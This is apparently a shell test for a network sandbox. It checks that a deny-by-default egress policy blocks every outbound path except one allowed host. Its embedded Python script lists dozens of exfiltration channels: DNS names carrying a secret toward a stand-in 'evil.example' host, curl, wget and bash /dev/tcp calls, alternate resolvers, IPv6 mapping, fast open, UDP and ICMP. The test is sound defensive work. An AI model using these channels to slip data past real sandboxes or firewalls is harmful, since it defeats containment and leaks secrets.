#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# needs: python3 curl wget unshare nsenter ip dnsmasq
# timeout: 120
#
# Nothing but what a rule names leaves the machine: a tap on all of the host's interfaces sees no packet,
# whatever a program inside tries: names that carry data, raw addresses, other families, UDP. Each way is
# tried without callgate first, where it leaves one; so the test would see it.
. "$TESTS/support/sandbox.sh"
. "$TESTS/support/network.sh"
. "$TESTS/support/world.sh"

world_servers
policy <<'END'
{"version": 1, "rules": [{"allow": "connect", "host": "api.example.test", "port": 80}],
	"otherwise": {"connect": "deny"}}
END
cat >ways.py <<'END'
import os, socket, struct, subprocess, sys
CARRIER = "s3cr3t-of-the-run.evil.example"
SERVER, SERVER6 = "44.128.0.2", "3ffe:8000::2"

def query(name, kind=1):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)

def command(*words):
    nothing = subprocess.DEVNULL
    return lambda: subprocess.run(words, check=True, timeout=5, stdin=nothing, stdout=nothing,
                                  stderr=nothing)

def tcp(family, address, flag=None, kind=socket.SOCK_STREAM, protocol=0):
    def way():
        with socket.socket(family, kind, protocol) as s:
            s.settimeout(0.5)
            if flag == "fast":
                s.sendto(b"x", socket.MSG_FASTOPEN, address)
            elif flag == "fast message":
                s.sendmsg([b"x"], [], socket.MSG_FASTOPEN, address)
            elif flag == "late":
                s.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
                s.connect(address)
                s.send(b"x")
            else:
                if flag == "poll":
                    s.setblocking(False)
                if flag == "bound":
                    s.bind(("0.0.0.0", 4444))
                s.connect(address)
    return way

def udp(family, address, how):
    def way():
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            if how == "sendto":
                s.sendto(b"x", address)
            elif how == "sendmsg":
                s.sendmsg([b"x"], [], 0, address)
            else:
                s.connect(address)
                s.send(b"x")
    return way

def ping(kind, protocol=socket.IPPROTO_ICMP):
    def way():
        with socket.socket(socket.AF_INET, kind, protocol) as s:
            s.sendto(b"\x08\0\xf7\xff\0\0\0\0", (SERVER, 0))
    return way

def ask(name, server, kind=1, how=socket.SOCK_DGRAM):
    def way():
        with socket.socket(socket.AF_INET, how) as s:
            s.settimeout(0.5)
            s.connect((server, 53))
            data = query(name, kind)
            s.send(data if how == socket.SOCK_DGRAM else struct.pack(">H", len(data)) + data)
            s.recv(512)
    return way

v4, v6 = socket.AF_INET, socket.AF_INET6
# Without quotes in the names: what the tap prints would escape them or not by the bytes beside them.
ways = {
    "a name": lambda: socket.getaddrinfo(CARRIER, 80),
    "a name by getent": command("getent", "ahosts", CARRIER),
    "a name by curl": command("curl", "-sS", "-m", "3", f"http://{CARRIER}/"),
    "a name by wget": command("wget", "-qT3", "-t1", "-O-", f"http://{CARRIER}/"),
    "a name by bash": command("bash", "-c", f"exec 3<>/dev/tcp/{CARRIER}/80"),
    "below an allowed name": lambda: socket.getaddrinfo("s3cr3t.api.example.test", 80),
    "beside an allowed name": lambda: socket.getaddrinfo("s3cr3t-api.example.test", 80),
    "an allowed name, looked up": lambda: socket.getaddrinfo("api.example.test", 80),
    "another resolver": ask(CARRIER, "44.128.0.3"),
    "another resolver, TCP": ask(CARRIER, "44.128.0.3", 16, socket.SOCK_STREAM),
    "a resolver far away": ask(CARRIER, "9.9.9.9", 16),
    "the resolver of old": ask(CARRIER, "127.0.0.53", 16),
    "the resolver of old, HTTPS": ask(CARRIER, "127.0.0.1", 65),
    "the allowed server": tcp(v4, (SERVER, 80)),
    "the allowed server, not waiting": tcp(v4, (SERVER, 80), "poll"),
    "the allowed server, bound": tcp(v4, (SERVER, 80), "bound"),
    "the allowed server, IPv6": tcp(v6, (SERVER6, 80)),
    "mapped into IPv6": tcp(v6, ("::ffff:" + SERVER, 80)),
    "behind a translator": tcp(v6, ("64:ff9b::" + SERVER, 80)),
    "6to4": tcp(v6, ("2002:2c80:2::1", 80)),
    "another address": tcp(v4, ("9.9.9.9", 443)),
    "many paths": tcp(v4, (SERVER, 80), None, socket.SOCK_STREAM, 262),
    "SCTP": tcp(v4, (SERVER, 80), None, socket.SOCK_STREAM, 132),
    "fast open": tcp(v4, (SERVER, 80), "fast"),
    "fast open by message": tcp(v4, (SERVER, 80), "fast message"),
    "fast open by option": tcp(v4, (SERVER, 80), "late"),
    "curl to an address for the name": command(
        "curl", "-sS", "-m", "3", "--resolve", f"api.example.test:80:{SERVER}", "http://api.example.test/"),
    "curl to another name for the name": command(
        "curl", "-sS", "-m", "3", "--connect-to", f"::{CARRIER}:80", "http://api.example.test/"),
    "another port of the name": command("curl", "-sS", "-m", "3", "http://api.example.test:81/"),
    "/dev/tcp": command("bash", "-c", f"exec 3<>/dev/tcp/{SERVER}/80"),
    "/dev/udp": command("bash", "-c", f"echo x >/dev/udp/{SERVER}/53"),
    "UDP": udp(v4, (SERVER, 4000), "sendto"),
    "UDP by message": udp(v4, (SERVER, 4000), "sendmsg"),
    "UDP, connected": udp(v4, (SERVER, 4000), "connect"),
    "UDP by IPv6": udp(v6, (SERVER6, 4000), "sendto"),
    "UDP by IPv6, connected": udp(v6, (SERVER6, 4000), "connect"),
    "UDP, mapped": udp(v6, ("::ffff:" + SERVER, 4000), "sendto"),
    "UDP, mapped, by message": udp(v6, ("::ffff:" + SERVER, 4000), "sendmsg"),
    "UDP to all": udp(v4, ("44.128.0.7", 4000), "sendto"),
    "UDP to a group": udp(v4, ("224.0.0.251", 5353), "sendmsg"),
    "UDP to the name": lambda: udp(v4, (socket.gethostbyname("api.example.test"), 80), "sendmsg")(),
    "ping": ping(socket.SOCK_DGRAM),
    "raw": ping(socket.SOCK_RAW),
}
def mark(name):
    with socket.socket(v4, socket.SOCK_DGRAM) as s:
        s.sendto(b"way:%s:" % name.encode(), ("127.0.0.8", 9))
for name, way in ways.items():
    if sys.argv[1:] == ["mark"]:
        mark(name)
    try:
        way()
        print("went:", name)
    except (OSError, subprocess.SubprocessError) as error:
        print("failed:", name, error)
if sys.argv[1:] == ["mark"]:
    mark("end")
END

# Bare, each leaves a packet. (Not every kernel has SCTP, nor lets everyone ping.)
expect_ok python3 ways.py mark
seen
cat >segments.py <<'END'
import re, sys
before, packets = None, {}
for line in sys.stdin:
    found = re.search("way:([^:]*):", line)
    if found and found[1] not in packets:  # the mark itself; it comes again, and as an error
        before = found[1]
        packets[before] = 0
    elif not found:
        packets[before] += 1
print(*(name for name, count in packets.items() if not count), sep="\n")
END
expect_equal "$(python3 segments.py <"$TEST_TMP/seen" | grep -v -e SCTP -e ping)" end
grep -q s3cr3t-of-the-run "$TEST_TMP/seen" || fail "the tap should see a name"

# The one that is let: its own lookups and its connection, and the tap sees them.
expect_output "web /x" in_sandbox curl -sS -m 5 http://api.example.test/x
seen
grep -q "api.*example.*test" "$TEST_TMP/seen" || fail "the tap should see the allowed lookup"

expect_ok in_sandbox python3 ways.py
seen
if [ -s "$TEST_TMP/seen" ]; then
	fail "packets left the machine"
	head -n 20 "$TEST_TMP/seen"
fi
# Nor did any seem to succeed, but for what ends inside.
expect_equal "$(grep '^went:' "$test_output" | grep -v -e "an allowed name, looked up" \
	-e "the resolver of old" -e "UDP to the name")" ""

# Connected, it speaks to the allowed server; dissolved, it is judged again, and nothing goes elsewhere.
cat >again.py <<'END'
import ctypes, errno, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
address = socket.getaddrinfo("api.example.test", 80, socket.AF_INET)[0][4][0]
s = socket.socket()
s.connect((address, 80))
for there in ("44.128.0.2", 80), ("44.128.0.2", 81), ("9.9.9.9", 80), (address, 81):
    assert libc.connect(s.fileno(), struct.pack("HHIQ", 0, 0, 0, 0), 16) == 0
    print(errno.errorcode.get(s.connect_ex(there), "went"))
s.connect((address, 80))
s.sendall(b"GET /again HTTP/1.0\r\n\r\n")
print(s.makefile().read().splitlines()[-1])
END
expect_output "$(printf '%s\n' EACCES EACCES EACCES EACCES 'web /again')" in_sandbox python3 again.py

# A listener inside is not one of the host's.
cat >listen.py <<'END'
import pathlib, socket, time
s = socket.create_server(("0.0.0.0", 5555))
t = socket.create_server(("::", 5556), family=socket.AF_INET6)
pathlib.Path("listening").touch()
while not pathlib.Path("tried").exists():
    time.sleep(0.05)
s.setblocking(False)
try:
    s.accept()
except BlockingIOError:
    print("nobody came")
END
in_sandbox python3 listen.py >listen.out 2>&1 &
listener=$!
world_wait test -e listening
for address in 127.0.0.1 44.128.0.1 ::1 3ffe:8000::1; do
	for number in 5555 5556; do
		expect_fail bash -c "exec 3<>/dev/tcp/$address/$number"
		expect_fail world_of bash -c "exec 3<>/dev/tcp/$address/$number"
	done
done
touch tried
wait "$listener"
expect_file listen.out "nobody came"
